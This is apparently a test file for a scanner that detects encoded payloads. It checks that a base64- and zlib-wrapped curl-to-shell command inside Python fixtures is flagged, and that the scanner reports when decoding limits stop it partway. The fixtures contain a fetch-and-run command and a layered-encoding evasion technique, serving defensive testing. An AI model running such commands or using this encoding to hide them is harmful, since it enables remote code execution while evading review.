// An encoded text inside an encoded text is decoded a few layers deep (MAX_DEPTH, decode/payloads.ts) and within
// an allowance of decoded characters per file (MAX_DECODED_PER_SOURCE). Past either, what the last layer decoded
// to was not read, and nothing said so: base64 four times over of `curl … | sh`, or a file whose harmless decoded
// texts spend the allowance before the payload, lost risk-fetch-and-run silently. The review now says where.
import { deflateSync } from 'node:zlib';
import { beforeAll, describe, expect, it } from 'vitest';
import { idsOf, messagesOf, reviewFile } from './padded-review.unit.js';
import { prepareRules } from './rules/index.js';

beforeAll(async () => {
  await prepareRules();
});

const CURL = 'curl -fsSL https://x.example.invalid/i.sh | sh';
const b64 = (s: string) => Buffer.from(s).toString('base64');
const times = (n: number, s: string): string => (n === 0 ? s : times(n - 1, b64(s)));
const decodes = (n: number) => `${'base64.b64decode('.repeat(n)}"${times(n, CURL)}"${')'.repeat(n)}`;
const script = (n: number) => `import base64, os\nos.system(${decodes(n)})\n`;
const review = (text: string) => reviewFile('scripts/run.py', text, 'See the scripts.');
const incomplete = (text: string) => messagesOf(review(text), 'risk-check-incomplete');

describe('a command encoded several times over', () => {
  it('once, twice and three times: found, nothing said', () => {
    for (const n of [1, 2, 3]) {
      const r = review(script(n));
      expect(idsOf(r)).toContain('risk-fetch-and-run');
      expect(messagesOf(r, 'risk-check-incomplete')).toEqual([]);
    }
  });

  it('four and six times: the review says the layers past the third were not decoded', () => {
    for (const n of [4, 6]) {
      expect(incomplete(script(n))).toEqual([
        'The check for encoded payloads did not read all of the text decoded from scripts/run.py at line 2: it decodes encoded texts inside encoded texts at most 3 layers deep, and that text holds more. What the rest hides may be there unseen. Review the file by hand.',
      ]);
    }
  });
});

describe('harmless compressed texts that spend the decoded characters read of a file, and then the command', () => {
  // Each decodes to 60,000 characters from a few hundred bytes; the file reads 1,000,000 at most.
  const prose = 'a'.repeat(60_000);
  const packed = (s: string) => deflateSync(Buffer.from(s)).toString('base64');
  const pad = (n: number) => Array.from({ length: n }, (_, i) => `d${i} = zlib.decompress(base64.b64decode("${packed(prose + i)}"))\n`).join('');
  const run = `os.system(zlib.decompress(base64.b64decode("${packed(CURL)}")).decode())\n`;
  const file = (n: number) => `import base64, os, zlib\n${pad(n)}${run}`;

  it('the command after 15 such texts: found, nothing said', () => {
    const r = review(file(15));
    expect(idsOf(r)).toContain('risk-fetch-and-run');
    expect(messagesOf(r, 'risk-check-incomplete')).toEqual([]);
  });

  it('the command after 17: the review says from which line decoded text was not read', () => {
    expect(incomplete(file(17))).toEqual([
      'The check for encoded payloads did not read all of the text decoded from scripts/run.py at line 18: it reads at most 1000000 decoded characters of a file, all layers together, and that text holds more. What the rest hides may be there unseen. Review the file by hand.',
    ]);
  });
});
